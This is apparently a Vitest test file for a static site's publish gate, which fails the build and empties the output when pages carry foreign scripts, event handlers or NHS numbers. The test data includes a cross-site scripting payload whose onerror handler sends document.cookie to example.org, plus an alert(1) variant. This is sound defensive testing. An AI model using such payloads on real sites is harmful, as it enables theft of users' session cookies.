/**
 * The publish gate over the built site: every page the build writes passes it, and a page that
 * carried markup the site did not write would fail the build, naming the page and its source file.
 */
import { cpSync, existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { describe, expect, it, vi } from 'vitest';
import { publishGate } from '../../src/integrations/publish-gate.ts';
import { scanBuiltSite } from '../../src/lib/check/publish-gate-scan.ts';
import { findUnsafeMarkupInBuild } from '../../src/lib/safety/built-site.ts';
import { DIST, PROJECT_ROOT, TEST_DIR } from '../helpers/site.ts';

const ESSAY = 'essays/learning-to-learn-from-each-other/index.html';

/** A copy of the built site with one essay page tampered with. */
function tamperedCopy(name: string): string {
  const copy = path.join(TEST_DIR, name);
  rmSync(copy, { recursive: true, force: true });
  mkdirSync(copy, { recursive: true });
  cpSync(path.join(DIST, 'essays'), path.join(copy, 'essays'), { recursive: true });
  const file = path.join(copy, ESSAY);
  const html = readFileSync(file, 'utf8').replace(
    '<div class="prose',
    '<img src="x" onerror="fetch(`//example.org/?`+document.cookie)"><script>document.title = 1</script><div class="prose',
  );
  writeFileSync(file, html);
  return copy;
}

describe('the publish gate', () => {
  it('passes every page of the built site', () => {
    expect(findUnsafeMarkupInBuild(DIST)).toEqual([]);
  });

  it('finds a script and an event handler slipped into a page, naming the page and its source file', () => {
    const copy = tamperedCopy('gate-scan');
    const found = findUnsafeMarkupInBuild(copy).map((p) => `${p.file} ${p.rule} ${p.message}`);
    const page = path.relative(process.cwd(), path.join(copy, ESSAY));
    expect(found).toEqual([
      `${page} page/event-handler <img> has an event handler, onerror (made from content/essays/learning-to-learn-from-each-other.mdx)`,
      `${page} page/foreign-script an inline script the site did not write (its hash is not one of the site's own) (made from content/essays/learning-to-learn-from-each-other.mdx)`,
    ]);
  });

  it('shares the pages across worker threads and finds exactly what one thread finds', async () => {
    const copy = tamperedCopy('gate-shares');
    // A second page, in another share, carries identifiers: an NHS number in its text, in figures and read out in words.
    const other = path.join(copy, 'essays', 'index.html');
    writeFileSync(
      other,
      readFileSync(other, 'utf8').replace(
        '<main',
        '<p>NHS 943 476 5919</p><p>She read it out: nine four three, four seven six, five nine one nine.</p><main',
      ),
    );
    const alone = await scanBuiltSite(copy, PROJECT_ROOT, 1);
    expect(alone.pages).toBe(2);
    expect(alone.markup.map((p) => p.rule)).toEqual(['page/event-handler', 'page/foreign-script']);
    expect(alone.identifiers.map((p) => p.rule)).toEqual(['confidentiality/nhs-number', 'confidentiality/nhs-number']);
    // Two shares put the two pages on different threads; a third share has no page at all.
    expect(await scanBuiltSite(copy, PROJECT_ROOT, 2)).toEqual(alone);
    expect(await scanBuiltSite(copy, PROJECT_ROOT, 3)).toEqual(alone);
  });

  it("reads the JSON files that carry content (the writing page's works, the CSL-JSON bibliography), not only pages", async () => {
    const copy = path.join(TEST_DIR, 'gate-data');
    rmSync(copy, { recursive: true, force: true });
    mkdirSync(path.join(copy, 'contribute'), { recursive: true });
    const works = JSON.parse(readFileSync(path.join(DIST, 'contribute', 'write-works.json'), 'utf8')) as Array<
      Record<string, unknown>
    >;
    expect(works.length).toBeGreaterThan(0);
    // A work whose title carries an NHS number and markup: the picker shows titles as text, the gate refuses the number.
    works[0] = { ...works[0], title: '<img src=x onerror=alert(1)> Notes of NHS 943 476 5919' };
    writeFileSync(path.join(copy, 'contribute', 'write-works.json'), JSON.stringify(works));
    cpSync(path.join(DIST, 'references.json'), path.join(copy, 'references.json'));
    const { identifiers } = await scanBuiltSite(copy, PROJECT_ROOT, 1);
    expect(identifiers.map((p) => [p.rule, /reached the built site: (\S+)/.exec(p.message)?.[1]])).toEqual([
      ['confidentiality/nhs-number', '/contribute/write-works.json'],
    ]);
  });

  it('fails the build and empties the output folder, so nothing unsafe is served or uploaded', async () => {
    const copy = tamperedCopy('gate-hook');
    const exit = vi.spyOn(process, 'exit').mockImplementation(() => undefined as never);
    const errors: string[] = [];
    const logger = { error: (message: string) => errors.push(message) };
    const hook = publishGate().hooks['astro:build:done'] as unknown as (options: {
      dir: URL;
      logger: typeof logger;
    }) => Promise<void>;
    await hook({ dir: pathToFileURL(`${copy}/`), logger: { ...logger, info: () => undefined } as typeof logger });
    const calls = exit.mock.calls.slice();
    exit.mockRestore();
    expect(calls).toEqual([[1]]);
    expect(existsSync(copy)).toBe(false);
    expect(errors.join('\n')).toContain('page/foreign-script');
    expect(errors.join('\n')).toContain('Nothing was published');
  });
});
